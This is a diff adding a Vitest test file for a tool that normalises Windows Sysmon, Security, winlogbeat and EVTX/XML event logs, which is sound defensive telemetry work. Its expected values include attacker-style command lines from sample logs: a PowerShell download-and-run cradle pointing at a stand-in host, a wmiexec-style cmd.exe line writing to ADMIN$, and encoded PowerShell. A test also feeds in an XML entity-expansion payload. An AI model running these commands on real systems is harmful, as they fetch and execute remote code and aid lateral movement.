@@ -1,0 +1,337 @@
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import type { NormalizedEvent } from '../../domain/event';
+import { NormalizedEvent as NormalizedEventSchema } from '../../domain/event';
+import { normalizeRecord, parseRawRecord } from './normalize-record';
+import { FIXTURES, readFile } from './test-support';
+
+function event(r: ReturnType<typeof normalizeRecord>): NormalizedEvent {
+  if (r.kind !== 'event') throw new Error(`expected an event, got ${JSON.stringify(r)}`);
+  // Every produced event must satisfy the domain schema (the hot path itself never runs zod).
+  return NormalizedEventSchema.parse(r.event);
+}
+
+const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
+
+describe('flat NXLog/Logstash shape', async () => {
+  const s = await readFile(path.join(FIXTURES, 'sysmon-flat.jsonl'));
+  const byRecord = new Map(s.outcomes.map((o) => [o.recordNo, o.result]));
+
+  it('takes the endpoint host and Sysmon UtcTime, not the collector', () => {
+    const e = event(byRecord.get(1)!);
+    expect(e).toMatchObject({
+      source: 'sysmon',
+      channel: SYSMON,
+      eventId: 1,
+      host: 'WORKSTATION5.theshire.local',
+      recordId: 1001,
+    });
+    expect(e.time).toBe(Date.UTC(2020, 8, 17, 21, 46, 5, 449));
+    expect(e.provider).toBe('Microsoft-Windows-Sysmon');
+  });
+
+  it('normalises GUIDs and keeps EventData names, dropping collector fields', () => {
+    const e = event(byRecord.get(1)!);
+    expect(e.fields.ProcessGuid).toBe('B34BC01C-D91D-5F63-4106-000000000400');
+    expect(e.fields.ParentProcessGuid).toBe('B34BC01C-D913-5F63-3F06-000000000400');
+    expect(e.fields.LogonGuid).toBe('B34BC01C-D2E1-5F63-5F9B-0B0000000000');
+    expect(e.fields.CommandLine).toBe('C:\\Users\\pgustavo\\Desktop\\MoveExcel4.exe  172.18.39.6');
+    for (const k of [
+      'host',
+      '@timestamp',
+      'Message',
+      'Keywords',
+      'EventTime',
+      'tags',
+      'Hostname',
+      'EventID',
+      'Channel',
+    ]) {
+      expect(e.fields, k).not.toHaveProperty(k);
+    }
+  });
+
+  it('accepts a record without ProcessId (6 of the shared files have none)', () => {
+    const e = event(byRecord.get(2)!);
+    expect(e.fields).not.toHaveProperty('ProcessId');
+    expect(e.fields.ProcessGuid).toBe('39E4A257-004E-5F8D-4304-000000000700');
+    // UtcTime wins over the local TimeCreated.
+    expect(e.time).toBe(Date.UTC(2020, 9, 18, 11, 56, 14, 283));
+  });
+
+  it('normalises string/int types and Initiated variants', () => {
+    const e = event(byRecord.get(3)!);
+    expect(e.eventId).toBe(3);
+    expect(e.fields).toMatchObject({
+      ProcessId: '4584',
+      SourcePort: '61628',
+      DestinationPort: '443',
+      Initiated: 'true',
+      SourceIsIpv6: 'false',
+      DestinationIsIpv6: 'false',
+    });
+  });
+
+  it('shortens GrantedAccess and gives ...GUID fields a ...Guid name', () => {
+    const e = event(byRecord.get(4)!);
+    expect(e.fields.GrantedAccess).toBe('0x1010');
+    expect(e.fields.SourceProcessGUID).toBe('D273D0F0-E866-5F64-1100-000000000800');
+    expect(e.fields.SourceProcessGuid).toBe('D273D0F0-E866-5F64-1100-000000000800');
+    expect(e.fields.TargetProcessGuid).toBe('D273D0F0-E875-5F64-5400-000000000800');
+    // NXLog's own EventType (INFO) is not Sysmon data.
+    expect(e.fields).not.toHaveProperty('EventType');
+  });
+
+  it("keeps Sysmon's real EventType of registry events", () => {
+    const e = event(byRecord.get(5)!);
+    expect(e.fields.EventType).toBe('SetValue');
+    expect(e.fields).not.toHaveProperty('EventTypeOrignal');
+  });
+
+  it('normalises the lower-case security channel and derives Sysmon fields for 4688', () => {
+    const e = event(byRecord.get(6)!);
+    expect(e).toMatchObject({
+      source: 'security',
+      channel: 'Security',
+      eventId: 4688,
+      host: 'WORKSTATION6.theshire.local',
+    });
+    expect(e.time).toBe(Date.parse('2020-09-20T16:16:39.625Z'));
+    expect(e.fields).toMatchObject({
+      NewProcessId: '0x1660',
+      ProcessId: '5728',
+      ParentProcessId: '1184',
+      Image: 'C:\\Windows\\System32\\whoami.exe',
+      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
+      CommandLine: 'whoami /all',
+      User: 'THESHIRE\\WORKSTATION6$',
+      SubjectUserName: 'WORKSTATION6$',
+    });
+  });
+
+  it('keeps Security 4624 fields', () => {
+    const e = event(byRecord.get(7)!);
+    expect(e).toMatchObject({ source: 'security', eventId: 4624 });
+    expect(e.fields).toMatchObject({
+      LogonType: '3',
+      TargetUserName: 'pgustavo',
+      LogonGuid: '00000000-0000-0000-0000-000000000000',
+    });
+  });
+
+  it('skips unsupported events by channel:eventId', () => {
+    expect(byRecord.get(8)).toEqual({ kind: 'skipped', type: `${SYSMON}:9` });
+    expect(byRecord.get(9)).toEqual({
+      kind: 'skipped',
+      type: 'Microsoft-Windows-PowerShell/Operational:4104',
+    });
+    expect(s.rejected).toEqual([]);
+  });
+
+  it('keeps unsupported Windows events on request, with source windows for other channels', async () => {
+    const all = await readFile(path.join(FIXTURES, 'sysmon-flat.jsonl'), { keepUnsupported: true });
+    expect(all.events).toHaveLength(9);
+    expect(all.events[7]).toMatchObject({ source: 'sysmon', eventId: 9 });
+    expect(all.events[8]).toMatchObject({
+      source: 'windows',
+      channel: 'Microsoft-Windows-PowerShell/Operational',
+      eventId: 4104,
+    });
+    expect(all.events[8]!.fields.ScriptBlockText).toBe('Write-Host hi');
+    // No UtcTime: the collector time is the fallback.
+    expect(all.events[8]!.time).toBe(Date.parse('2020-09-20T16:16:42.000Z'));
+  });
+});
+
+describe('winlogbeat 6 shape', async () => {
+  const s = await readFile(path.join(FIXTURES, 'winlogbeat6.jsonl'));
+
+  it('reads event_data and computer_name, never beat.hostname', () => {
+    expect(s.events).toHaveLength(2);
+    const [p, n] = s.events as [NormalizedEvent, NormalizedEvent];
+    expect(p).toMatchObject({ source: 'sysmon', eventId: 1, host: 'HR001.shire.com', recordId: 2234831 });
+    expect(p.fields.ProcessGuid).toBe('03BA39F5-6CF6-5CE0-0000-0010348C0E02');
+    expect(p.time).toBe(Date.UTC(2019, 4, 18, 20, 37, 10, 356));
+    expect(n).toMatchObject({ eventId: 3, host: 'HFDC01.shire.com' });
+    expect(n.fields.Initiated).toBe('true');
+    expect(s.skipped.get('Microsoft-Windows-PowerShell/Operational:4103')).toBe(1);
+  });
+
+  it('reads winlogbeat 7 (winlog{}) too', () => {
+    const e = event(
+      normalizeRecord({
+        '@timestamp': '2021-01-01T00:00:01.000Z',
+        host: { name: 'collector' },
+        winlog: {
+          channel: 'Microsoft-Windows-Sysmon/Operational',
+          event_id: '11',
+          computer_name: 'WS1.corp',
+          record_id: 42,
+          provider_name: 'Microsoft-Windows-Sysmon',
+          event_data: {
+            UtcTime: '2021-01-01 00:00:00.500',
+            ProcessGuid: '{a-b}',
+            Image: 'x.exe',
+            TargetFilename: 'C:\\t.txt',
+          },
+        },
+      }),
+    );
+    expect(e).toMatchObject({
+      eventId: 11,
+      host: 'WS1.corp',
+      recordId: 42,
+      time: Date.UTC(2021, 0, 1, 0, 0, 0, 500),
+    });
+    expect(e.fields.TargetFilename).toBe('C:\\t.txt');
+  });
+});
+
+describe('EVTX JSON shape (python-evtx and evtx_dump)', async () => {
+  const s = await readFile(path.join(FIXTURES, 'evtx-json.jsonl'), { keepUnsupported: true });
+
+  it('reads System and EventData, null values as empty strings', () => {
+    const e = s.events[0]!;
+    expect(e).toMatchObject({
+      source: 'sysmon',
+      eventId: 3,
+      host: 'IEWIN7',
+      recordId: 9825,
+      provider: 'Microsoft-Windows-Sysmon',
+    });
+    expect(e.fields).toMatchObject({
+      RuleName: '',
+      DestinationHostname: '',
+      Initiated: 'false',
+      ProcessGuid: '365ABB72-2584-5CC9-0000-0010EA030000',
+    });
+    expect(e.time).toBe(Date.UTC(2019, 3, 30, 20, 32, 49, 659));
+  });
+
+  it('reads EventID with Qualifiers and converts the 4688 PIDs', () => {
+    const e = s.events[1]!;
+    expect(e).toMatchObject({
+      source: 'security',
+      eventId: 4688,
+      time: Date.UTC(2019, 3, 30, 20, 33, 0, 100),
+    });
+    expect(e.fields).toMatchObject({
+      NewProcessId: '0xf00',
+      ProcessId: '3840',
+      ParentProcessId: '836',
+      User: 'IEWIN7\\IEUser',
+    });
+  });
+
+  it('flattens UserData leaves, names channel-less ETW events after the provider, joins unnamed Data', () => {
+    expect(s.events[2]).toMatchObject({ eventId: 1102, channel: 'Security' });
+    expect(s.events[2]!.fields).toMatchObject({
+      SubjectUserName: 'Administrator',
+      SubjectLogonId: '0x7b186',
+    });
+    expect(s.events[3]).toMatchObject({ source: 'windows', channel: 'Microsoft-Windows-RPC', eventId: 6 });
+    expect(s.events[4]!.fields.Data).toBe(
+      'Available\nNone\nNewEngineState=Available\n\tHostApplication=powershell -enc AAAA',
+    );
+  });
+
+  it('reads pretty-printed concatenated evtx_dump output with int fields and brace-less GUIDs', async () => {
+    // evtx_dump -o json writes pretty-printed objects one after another (not one JSON document).
+    const d = await readFile(path.join(FIXTURES, 'evtx-dump.concat'));
+    expect(d.rejected).toEqual([]);
+    expect(d.events.map((e) => e.eventId)).toEqual([1, 10]);
+    expect(d.events[0]!.fields).toMatchObject({
+      ProcessGuid: '0197231E-9BE6-6934-5301-000000000B00',
+      ProcessId: '3412',
+      TerminalSessionId: '1',
+      ParentProcessId: '1092',
+    });
+    expect(d.events[1]!.fields).toMatchObject({
+      SourceProcessGuid: '0197231E-9BE6-6934-5301-000000000B00',
+      GrantedAccess: '0x1410',
+    });
+    const a = await readFile(path.join(FIXTURES, 'evtx-dump-array.json'));
+    expect(a.events).toEqual(d.events);
+    expect(a.outcomes.map((o) => o.recordNo)).toEqual([1, 2]);
+  });
+});
+
+describe('Windows event XML', async () => {
+  it('reads an <Events> export (XML 1.1 declaration, entities, CDATA)', async () => {
+    const s = await readFile(path.join(FIXTURES, 'events.xml'), { keepUnsupported: true });
+    expect(s.rejected).toEqual([]);
+    expect(s.events.map((e) => e.eventId)).toEqual([1, 10, 4104]);
+    const [p, a, ps] = s.events as [NormalizedEvent, NormalizedEvent, NormalizedEvent];
+    expect(p.fields.CommandLine).toBe('cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1556656369.7 2>&1');
+    expect(p.fields.ProcessGuid).toBe('365ABB72-B0F3-5CC8-0000-00105F321D00');
+    expect(p.fields.RuleName).toBe('');
+    expect(p).toMatchObject({ host: 'IEWIN7', recordId: 9826, time: Date.UTC(2019, 3, 30, 20, 32, 51, 168) });
+    expect(a.fields).toMatchObject({
+      GrantedAccess: '0x1fffff',
+      TargetProcessGuid: '365ABB72-0886-5C8F-0000-001030560000',
+    });
+    expect(ps).toMatchObject({ source: 'windows', channel: 'Microsoft-Windows-PowerShell/Operational' });
+    expect(ps.fields.ScriptBlockText).toBe("IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')");
+  });
+
+  it('reads a bare sequence of <Event> elements (WEF / wevtutil)', async () => {
+    const s = await readFile(path.join(FIXTURES, 'events-bare.xml'));
+    expect(s.events).toHaveLength(1);
+    expect(s.events[0]).toMatchObject({ source: 'security', eventId: 4688, host: 'DC01.corp.local' });
+    expect(s.events[0]!.fields).toMatchObject({
+      ProcessId: '5728',
+      ParentProcessId: '1184',
+      User: 'CORP\\alice',
+      Image: 'C:\\Windows\\System32\\net.exe',
+    });
+    expect(s.skipped.get('System:7045')).toBe(1);
+  });
+
+  it('parses one <Event> string given directly', () => {
+    const xml =
+      '<Event><System><EventID>5</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>H</Computer></System>' +
+      '<EventData><Data Name="UtcTime">2020-01-01 00:00:00.000</Data><Data Name="ProcessGuid">{aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee}</Data></EventData></Event>';
+    const e = event(parseRawRecord({ recordNo: 1, format: 'xml', text: xml }));
+    expect(e).toMatchObject({ eventId: 5, host: 'H', time: Date.UTC(2020, 0, 1) });
+    expect(e.fields.ProcessGuid).toBe('AAAAAAAA-BBBB-CCCC-DDDD-EEEEEEEEEEEE');
+  });
+});
+
+describe('rejections', () => {
+  const base = { Channel: SYSMON, Hostname: 'H', UtcTime: '2020-01-01 00:00:00.000' };
+  it.each([
+    [{ ...base, EventID: 'one' }, 'invalid EventID'],
+    [{ ...base, EventID: 1.5 }, 'invalid EventID'],
+    [{ ...base, EventID: [1] }, 'invalid EventID'],
+    [{ ...base }, 'missing EventID'],
+    [{ ...base, EventID: 1, Hostname: '' }, 'missing host'],
+    [{ EventID: 1, Channel: SYSMON, host: 'collector', UtcTime: base.UtcTime }, 'missing host'],
+    [{ ...base, EventID: 1, UtcTime: 'soon' }, 'invalid time'],
+    [{ EventID: 4688, Channel: 'Security', Hostname: 'H' }, 'missing time'],
+    [{ EventID: 1, Hostname: 'H', UtcTime: base.UtcTime }, 'missing Channel'],
+    [{ Event: 'x' }, 'invalid record'],
+    [{ Event: { EventData: {} } }, 'invalid record'],
+    [{ hello: 'world' }, 'unrecognised record'],
+  ])('%j -> %s', (record, category) => {
+    const r = normalizeRecord(record);
+    expect(r.kind).toBe('rejected');
+    if (r.kind === 'rejected') expect(r.reason.split(':')[0]).toBe(category);
+  });
+
+  it('rejects non-objects and bad JSON with a reason', () => {
+    expect(normalizeRecord([1])).toMatchObject({ kind: 'rejected' });
+    expect(normalizeRecord('x')).toMatchObject({ kind: 'rejected' });
+    expect(normalizeRecord(null)).toMatchObject({ kind: 'rejected' });
+    const r = parseRawRecord({ recordNo: 1, format: 'jsonl', text: '{"EventID": 1, "Hostname": ' });
+    expect(r.kind === 'rejected' && r.reason.startsWith('invalid JSON:')).toBe(true);
+    const x = parseRawRecord({ recordNo: 1, format: 'xml', text: '<Event><System>' });
+    expect(x.kind === 'rejected' && x.reason.startsWith('invalid XML')).toBe(true);
+  });
+
+  it('does not expand entities of an XML event given directly', () => {
+    const bomb =
+      '<!DOCTYPE e [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><Event><System><EventID>&b;</EventID></System></Event>';
+    const r = parseRawRecord({ recordNo: 1, format: 'xml', text: bomb });
+    expect(r.kind === 'rejected' && r.reason.startsWith('refused XML')).toBe(true);
+  });
+});
